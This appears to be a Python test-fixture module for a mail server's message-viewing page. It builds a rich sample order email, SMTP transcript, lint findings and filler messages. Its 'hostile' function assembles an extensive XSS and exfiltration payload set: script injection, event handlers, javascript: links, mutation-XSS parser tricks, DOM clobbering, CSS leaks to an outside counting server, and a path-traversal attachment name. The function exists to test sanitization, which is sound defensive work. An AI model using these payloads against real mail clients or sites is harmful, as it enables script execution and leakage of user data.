"""tests/clients/page_samples.py - messages for the page's tests: a rich one, a hostile one, many."""
import email.message
import struct
import zlib

from page_double import message, part


def png(width, height, colour):
    """A picture of one colour."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + bytes(colour) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


LOGO = png(120, 40, (11, 107, 93))
PDF = b"%PDF-1.4\n" + b"x" * 2000
HTML = """<html><head><style>body{font-family:Georgia,serif;color:#222;background:#f3efe6}
.card{max-width:520px;margin:24px auto;background:#fff;padding:32px;border-radius:6px}
.go{display:inline-block;background:#0b6b5d;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none}
</style></head><body><div class="card"><img src="cid:logo@alice.example" alt="Logo" width="120" height="40">
<h1>Thank you, Bob</h1><p>Your order <b>#4711</b> is on its way. It comes on Thursday between 9 and 12.</p>
<p><a class="go" href="https://shop.example/track/4711">Where is it?</a></p>
<img src="https://tracker.example/pixel.gif?bob" width="1" height="1" alt="">
<p style="color:#888">Caf\u00e9 Alice, Main Street 5</p></div></body></html>"""
TEXT = ("Thank you, Bob\r\n\r\nYour order #4711 is on its way. It comes on Thursday between 9 and 12.\r\n"
        "Where is it? https://shop.example/track/4711.\r\n\r\n> When will it come?\r\n> And how?\r\n\r\nBy train.\r\n-- \r\nCaf\u00e9 Alice\r\n")


def at(ms):
    return "2026-11-27T09:41:%02d.%03dZ" % divmod(7000 + ms, 1000)


def dialogue():
    rows = [("server", "220 mock.example ESMTP Posthouse"), ("client", "EHLO laptop.example"),
            ("server", "250-mock.example greets laptop.example"), ("server", "250-SIZE 52428800"),
            ("server", "250-STARTTLS"), ("server", "250-AUTH PLAIN LOGIN"), ("server", "250-PIPELINING"),
            ("server", "250 ENHANCEDSTATUSCODES"), ("client", "AUTH PLAIN ", True),
            ("server", "235 2.7.0 Welcome"), ("client", "MAIL FROM:<bounce@alice.example> SIZE=2048 BODY=8BITMIME"),
            ("server", "250 2.1.0 OK"), ("client", "RCPT TO:<nobody@nowhere.example>"),
            ("server", "550 5.1.1 No such mailbox"), ("client", "RCPT TO:<bob@bob.example> NOTIFY=NEVER"),
            ("server", "250 2.1.5 OK"), ("client", "DATA"), ("server", "354 Go on; end with a dot")]
    rows += [("client", line) for line in ("From: Alice <alice@alice.example>", "Subject: Your order", "", "Thank you, Bob", "",
                                           "Your order is on its way.", "..", "Alice")]
    rows += [("client", "."), ("server", "250 2.0.0 Ok: queued as 1.3f.7"), ("client", "QUIT"), ("server", "221 2.0.0 Bye")]
    return {"Lines": [{"At": at(i * 7), "From": r[0], "Text": r[1], "Masked": len(r) > 2} for i, r in enumerate(rows)]}


def journey():
    rows = [("edge", "connection", "127.0.0.1:51612 connects (smtp)", {"port": 51612}),
            ("edge", "login", "login of shop: taken", {}),
            ("edge", "accepted", "250: message 1.3f.7, 2048 bytes, is on disk in the journal", {"stored": 911, "recipients": 1}),
            ("router", "handed", "the router hands it to the store, for 1 recipient(s)", {}),
            ("store", "filed", "the router handed it on: mailbox of all, UID 7", {"uid": 7, "pack": 1, "offset": 4096}),
            ("store", "durable", "and that is on disk", {})]
    return {"Events": [{"At": at(i * i * 9), "Role": role, "Host": "mock.example" if role == "edge" else "alice.example",
                        "What": what, "Words": words, "Details": details} for i, (role, what, words, details) in enumerate(rows)]}


LINT = {"Findings": [
    {"Name": "data-line-end", "Severity": "error", "Clause": "RFC 5321 section 2.3.8", "Where": "", "Line": 0,
     "Text": "lines of the message do not end in CR LF: here they were given it", "Remedy": "end each line with \"\\r\\n\""},
    {"Name": "date-missing", "Severity": "warning", "Clause": "RFC 5322 section 3.6.1", "Where": "Date", "Line": 0,
     "Text": "there is no Date field", "Remedy": "write the time of composing, with its zone"},
    {"Name": "html-only", "Severity": "hint", "Clause": "RFC 2046 section 5.1.4", "Where": "line 12", "Line": 17,
     "Text": "HTML without a text beside it", "Remedy": "send multipart/alternative"}]}
TRACE = (b"Return-Path: <bounce@alice.example>\r\nDelivered-To: bob@bob.example\r\nDelivered-To: hidden@bob.example\r\n"
         b"Received: from laptop.example ([127.0.0.1])\r\n\tby mock.example (Posthouse); Fri, 27 Nov 2026 09:41:07 +0000\r\n")
ENVELOPE = {"From": "bounce@alice.example", "To": ["bob@bob.example", "hidden@bob.example"], "Mailbox": "shop",
            "Login": "shop", "Received": at(0)}


def rich(number):
    """Everything that the page can show."""
    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"] = "Caf\u00e9 Alice <alice@alice.example>", "Bob <bob@bob.example>", "Your order #4711 \u2013 thank you"
    m["Message-ID"], m["X-Tags"] = "<4711@alice.example>", "shop"
    m.set_content(TEXT)
    m.add_alternative(HTML, subtype="html")
    m.get_payload()[1].add_related(LOGO, "image", "png", cid="<logo@alice.example>")
    m.add_attachment(PDF, "application", "pdf", filename="Rechnung f\u00fcr Bob.pdf")
    sent = m.as_bytes().replace(b"\n", b"\r\n")
    return message(number, subject="Your order #4711 \u2013 thank you", sent=sent, sender=("Caf\u00e9 Alice", "alice@alice.example"),
                   to=("bob@bob.example",), text=TEXT, html=HTML, raw=TRACE + sent, tags=("shop",), mailbox="shop",
                   attachments=[part("2", "Rechnung f\u00fcr Bob.pdf", "application/pdf", PDF)],
                   inline=[part("1.2.2", "logo.png", "image/png", LOGO, "logo@alice.example")],
                   lint=LINT, envelope=ENVELOPE, transcript=dialogue(), journey=journey())


def hostile(number, here, elsewhere):
    """Tries to run, to load and to send; here is the page, elsewhere a server that counts."""
    bad = "document.title='owned';window.top.owned=1;fetch('%s/script')" % elsewhere
    html = """<html><head><base href="%(e)s/base/"><meta http-equiv="refresh" content="0;url=%(e)s/refresh">
<link rel="stylesheet" href="%(e)s/link.css"><link rel="preload" as="image" href="%(e)s/preload.png">
<link rel="prefetch" href="%(e)s/prefetch"><link rel="dns-prefetch" href="%(e)s"><link rel="preconnect" href="%(e)s">
<link rel="icon" href="%(e)s/icon.ico"><link rel="manifest" href="%(e)s/manifest"><link rel="modulepreload" href="%(e)s/module.js">
<link rel="stylesheet alternate" title="x" href="%(e)s/alternate.css"><link rel="import" href="%(e)s/import.html">
<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="a=b">
<meta name="referrer" content="unsafe-url">
<style>@import "%(e)s/import.css"; @font-face{font-family:x;src:url(%(e)s/font.woff)}
body{background:url(%(e)s/css.png);font-family:x} p::before{content:url(%(e)s/content.png)}
input[value^="s"]{background:u\\72l("%(e)s/leak-s.png");list-style:image-set("%(e)s/set.png" 1x);cursor:url(%(e)s/cursor.png),auto}
#there{mask-image:url(%(e)s/mask.png);border-image:url(%(e)s/border.png) 1;filter:url(%(e)s/filter.svg#x)}
@font-face{font-family:y;src:url(%(e)s/leak-a.woff);unicode-range:U+44} #there{font-family:y}
#cid{background:url(cid:dot@evil.example);width:10px;height:10px}</style>
<script>%(bad)s</script><script src="%(e)s/x.js"></script><script type="module" src="%(h)s/assets/app.js"></script></head>
<body onload="%(bad)s" background="%(e)s/body.png" style="background-image:url('%(e)s/style.png')">
<p id="there">Dear customer</p><input value="secret"><div id="cid"></div><img id="along" src="cid:dot@evil.example" alt="">
<img name="body" src="%(e)s/n1.png"><img name="querySelectorAll" alt=""><img name="head" alt=""><img name="documentElement" alt="">
<img name="createElement" alt=""><img name="URL" alt=""><img name="links" alt=""><embed name="fonts"><object id="addEventListener"></object>
<form name="images" action="%(e)s/clobber"><input name="attributes"><input name="removeAttribute"><input id="childNodes"><input name="localName">
<input name="remove"><input name="parentNode" onfocus="%(bad)s" autofocus><input name="querySelectorAll"><p onclick="%(bad)s">in a form</p></form>
<img src="%(e)s/img.png" srcset="%(e)s/srcset.png 2x" onerror="%(bad)s"><img src=x onerror="%(bad)s">
<img src="%(h)s/api/v1/message/M0000001"><img src="/api/v1/info"><picture><source srcset="%(e)s/source.png"><img></picture>
<iframe src="%(e)s/frame"></iframe><iframe srcdoc="&lt;script&gt;%(bad)s&lt;/script&gt;"></iframe>
<object data="%(e)s/object"></object><embed src="%(e)s/embed"><video src="%(e)s/video" poster="%(e)s/poster"></video>
<audio src="%(e)s/audio" autoplay></audio><svg onload="%(bad)s"><script>%(bad)s</script><image href="%(e)s/svg.png"/>
<animate onbegin="%(bad)s" attributeName="x" dur="1s"/><foreignObject><iframe src="%(e)s/fo"></iframe></foreignObject></svg>
<form action="%(e)s/form" id="f"><input name="password" autofocus onfocus="%(bad)s"><button id="send">Log in</button></form>
<math href="javascript:%(bad)s"><maction actiontype="statusline#%(e)s/status" xlink:href="javascript:%(bad)s">x</maction>
<mtext><table><mglyph><style><!--</style><img src=x onerror="%(bad)s">--></style></mglyph></table></mtext></math>
<svg><style><a id="</style><img src=x onerror=&quot;%(bad)s&quot;>"></a></style><use href="%(e)s/use.svg#x"/><use href="data:image/svg+xml,&lt;svg/&gt;#x"/>
<filter id="fi"><feImage href="%(e)s/fe.png"/></filter><rect style="fill:url(%(e)s/fill.svg#x)" filter="url(%(e)s/flt.svg#x)" width="9" height="9"/>
<a xlink:href="javascript:%(bad)s"><set attributeName="xlink:href" to="javascript:%(bad)s"/><text y="9">svg</text></a><script href="%(e)s/svg.js"/></svg>
<noscript><p title="</noscript><img src=x onerror=&quot;%(bad)s&quot;>"></p></noscript><!--><img src=x onerror="%(bad)s">-->
<form id="mx"><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="%(bad)s"></style></mglyph></mtext></math></form>
<table background="%(e)s/table.png"><td background="%(e)s/td.png">x</td></table><bgsound src="%(e)s/bg.mid"><img lowsrc="%(e)s/low.png" dynsrc="%(e)s/dyn.png">
<button form="f" formaction="javascript:%(bad)s" formtarget="_top" onclick="%(bad)s">x</button><marquee onstart="%(bad)s">x</marquee>
<xss tabindex="1" onfocus="%(bad)s" autofocus>x</xss><a href="java&#10;script:%(bad)s">x</a><a href="&#1;javascript:%(bad)s">x</a>
<map name="m"><area shape="default" href="javascript:%(bad)s"></map><iframe src="javascript:%(bad)s"></iframe><frameset onload="%(bad)s"></frameset>
<a id="top" href="%(e)s/top" target="_top" ping="%(e)s/ping">up</a> <a id="pinged" href="%(e)s/pinged" ping="%(e)s/ping" target="_self">self</a>
<video autoplay><source src="%(e)s/v.mp4"><track src="%(e)s/v.vtt" default></video><portal src="%(e)s/portal"></portal><fencedframe src="%(e)s/fenced"></fencedframe>
<a id="js" href="javascript:%(bad)s">one</a> <a id="data" href="data:text/html,&lt;script&gt;%(bad)s&lt;/script&gt;">two</a>
<a id="out" href="%(e)s/link" ping="%(e)s/ping">three</a> <a id="in" href="/assets/app.js">four</a>
<math><mtext></mtext><mglyph><style><img src=x onerror="%(bad)s"></style></mglyph></math>
<noscript><p title="</noscript><img src=x onerror=%(bad)s>"></noscript>
<table background="%(e)s/table.png"><tr><td>x</td></tr></table><input type="image" src="%(e)s/input.png">
<details open ontoggle="%(bad)s"><summary>x</summary></details><style>*{color:red}</style>
<template><script>%(bad)s</script></template></body></html>""" % {"e": elsewhere, "h": here, "bad": bad.replace('"', "&quot;")}
    subject, name, text = "<script>document.title='owned'</script><b>Prize</b>", "<img src=x onerror=alert(1)>", "<b>no</b> <script>alert(1)</script>"
    m = email.message.EmailMessage()
    m["Subject"], m["From"], m["To"] = subject, '"%s" <evil@evil.example>' % name, "bob@bob.example"
    m.set_content(text)
    m.add_alternative(html, subtype="html")
    m.get_payload()[1].add_related(LOGO, "image", "png", cid="<dot@evil.example>")
    m.add_attachment(b"<script>x</script>", "text", "html", filename="../../<b>.html")
    return message(number, subject=subject, sender=(name, "evil@evil.example"), text=text, html=html,
                   raw=m.as_bytes().replace(b"\n", b"\r\n"), tags=("<i>tag</i>",), attachments=[part("2", "../../<b>.html", "text/html", b"<script>x</script>")],
                   inline=[part("1.2.2", "dot.png", "image/png", LOGO, "dot@evil.example")])


PEOPLE = (("Alice Adams", "alice@alice.example"), ("Bob Brown", "bob@bob.example"), ("", "cron@build.example"),
          ("Carol C\u00f4t\u00e9", "carol@carol.example"), ("Shop", "orders@shop.example"), ("\u5c71\u7530\u592a\u90ce", "yamada@example.jp"))
SUBJECTS = ("Your password was changed", "Build 8231 passed on main", "Invoice for November", "Re: Dinner on Friday?",
            "Welcome to the course", "Minutes of the meeting", "\u8acb\u6c42\u66f8\u306e\u4ef6", "Reset your password")


def many(n):
    """n small messages, the newest first; each tells its number."""
    return [message(i, subject="%s (%d)" % (SUBJECTS[i % len(SUBJECTS)], i), sender=PEOPLE[i % len(PEOPLE)],
                    to=("dev@posthouse.example",) if i % 3 else ("dev@posthouse.example", "ops@posthouse.example"),
                    text="Hello, this is message number %d, and some more words of it that are cut off somewhere." % i,
                    read=i % 4 != 0, tags=("ci",) if i % 6 == 2 else ())
            for i in range(n, 0, -1)]
